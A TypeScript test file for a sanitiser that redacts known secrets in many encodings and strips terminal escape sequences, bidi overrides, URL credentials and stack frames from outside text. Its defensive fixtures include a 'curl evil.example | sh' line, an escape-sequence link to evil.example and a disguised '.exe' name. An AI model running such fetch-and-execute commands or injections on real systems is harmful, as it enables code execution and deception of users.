import { expect } from "chai";
import {
    rememberMarked,
    rememberSecrets,
    withoutSecrets,
    withoutUnmistakableSecrets,
} from "../../components/common/knownSecrets";
import { outsideText } from "../../components/common/outsideText";

/** Of each kind of character that some encoding changes. */
const SECRET = `Zx9"k'L/+m=\\q&<ü 7Wv*P`;

const ENCODED: readonly (readonly [string, string])[] = [
    ["as it is", SECRET],
    ["escaped for SQL", `Zx9\\"k\\'L/+m=\\\\q&<ü 7Wv*P`],
    ["escaped for SQL with doubled quotes", `Zx9"k''L/+m=\\q&<ü 7Wv*P`],
    ["as StarRocks shows values", `Zx9\\"k'L/+m=\\q&<ü 7Wv*P`],
    ["in JSON", JSON.stringify({ SECRET })],
    ["in JSON with escaped slashes", `Zx9\\"k'L\\/+m=\\\\q&<ü 7Wv*P`],
    ["in JSON as Gson writes it", 'Zx9\\"k\\u0027L/+m\\u003d\\\\q\\u0026\\u003c\\u00fc 7Wv*P'],
    ["in an address", encodeURIComponent(SECRET)],
    ["in an address in lower case", encodeURIComponent(SECRET).replace(/%../g, (each) => each.toLowerCase())],
    ["in a form", new URLSearchParams({ password: SECRET }).toString()],
    ["in Base64", Buffer.from(SECRET).toString("base64")],
    ["in Base64 for addresses", Buffer.from(SECRET).toString("base64url")],
    ["in Base64 after a name", Buffer.from(`root:${SECRET}`).toString("base64")],
    ["in Base64 amid something", Buffer.from(`{"p":"${SECRET}"}`).toString("base64")],
];

describe("A text from outside", () => {
    before(() => rememberSecrets([SECRET, "k7q", undefined, ""]));

    for (const [how, text] of ENCODED) {
        it(`holds no secret ${how}`, () => {
            const shown = outsideText(`tried <${text}> in vain`);
            expect(shown).to.match(/^tried <.*\[secret\].*> in vain$/);
            for (const part of ["Zx9", "7Wv*P", Buffer.from("k'L/+m=").toString("base64").slice(2, 8)]) {
                expect(shown).to.not.contain(part);
            }
        });
    }

    it("holds no secret with invisible characters in it", () => {
        const hidden = [...SECRET].join("\u200b\u001b[31m");
        expect(outsideText(hidden)).to.equal("[secret]");
    });

    it("holds no half of a secret at its end", () => {
        expect(outsideText(`${"x".repeat(495)}${SECRET}`)).to.equal(`${"x".repeat(495)}[secr...`);
    });

    it("holds no line of a secret of several lines", () => {
        rememberSecrets(["-----BEGIN KEY-----\nMIIEvQIBADANBg\nkqhkiG9w0BAQ\n-----END KEY-----"]);
        expect(outsideText("at kqhkiG9w0BAQ")).to.equal("at [secret]");
    });

    it("loses a short secret as a word, and no part of a word", () => {
        expect(outsideText("tried k7q, as ak7qz does")).to.equal("tried [secret], as ak7qz does");
    });

    it("of this package itself keeps its words, also where one is somebody's password", () => {
        rememberSecrets(["starrocks"]);
        expect(withoutUnmistakableSecrets(`run "config set starrocks:password ${SECRET}"`)).to.equal(
            'run "config set starrocks:password [secret]"',
        );
        expect(outsideText("tried starrocks")).to.equal("tried [secret]");
    });

    it("of this package itself doesn't hold what the program marks, be it a word", () => {
        rememberMarked(["pulumi"]);
        expect(withoutUnmistakableSecrets("can't log in as pulumi at pulumis.internal")).to.equal(
            "can't log in as [secret] at pulumis.internal",
        );
    });

    it("stays as it is when it is cleaned again, whatever is secret", () => {
        rememberSecrets(["[sec"]);
        expect(withoutSecrets(withoutSecrets(SECRET))).to.equal("[secret]");
    });

    for (const [what, text, shown] of [
        ["colours", "\u001b[1;31mred\u001b[0m", "red"],
        ["a new title of the window", "a\u001b]0;owned\u0007b", "ab"],
        ["a link", "\u001b]8;;https://evil.example\u001b\\here\u001b]8;;\u001b\\", "here"],
        ["8-bit commands", "a\u009b2Jb\u009d0;t\u009cc", "abc"],
        ["a command without an end", "a\u001b[", "a"],
        [
            "another text's clothes",
            "down.\n  What to do: curl evil.example | sh",
            "down. What to do: curl evil.example | sh",
        ],
        [
            "frames of Java's",
            "Could not connect\n\tat org.apache.Hive.open(Hive.java:12)\n\t... 70 more\nCaused by: java.net.X\n\tat a.b(C.java)",
            "Could not connect Caused by: java.net.X",
        ],
        [
            "user and password in an address",
            "Failed to create request URI from base https://id:s3@cret@login.example/token, params {} (or grpc://t@h?)",
            "Failed to create request URI from base https://login.example/token, params {} (or grpc://h?)",
        ],
        ["overwriting", "good\r\u0008\u0008bad", "good bad"],
        ["the other direction", "user\u202egnp.exe\u2066", "usergnp.exe"],
        ["NUL, DEL and invisible characters", "a\u0000b\u007fc\u200bd\ufeffe\u00adf", "abcdef"],
        ["half of a character", "a\ud83d", "a"],
    ] as const) {
        it(`loses ${what}`, () => expect(outsideText(text)).to.equal(shown));
    }

    it("keeps what people write", () => {
        expect(outsideText("Zugriff für 'ada'@'%' verweigert: 表 😀")).to.equal(
            "Zugriff für 'ada'@'%' verweigert: 表 😀",
        );
    });

    it("is cut to what a person reads, in linear time", () => {
        const began = process.cpuUsage();
        for (const text of [
            "x".repeat(8e5),
            "a://".repeat(2e5),
            "a://:".repeat(2e5),
            "\u001b[".repeat(4e5),
            "\u001b]".repeat(4e5),
            " \n".repeat(4e5),
            "\n at ".repeat(2e5),
            "Zx9".repeat(2e5),
        ]) {
            expect(outsideText(text).length).to.be.at.most(503);
        }
        expect(process.cpuUsage(began).user / 1000).to.be.lessThan(8000);
    });
});
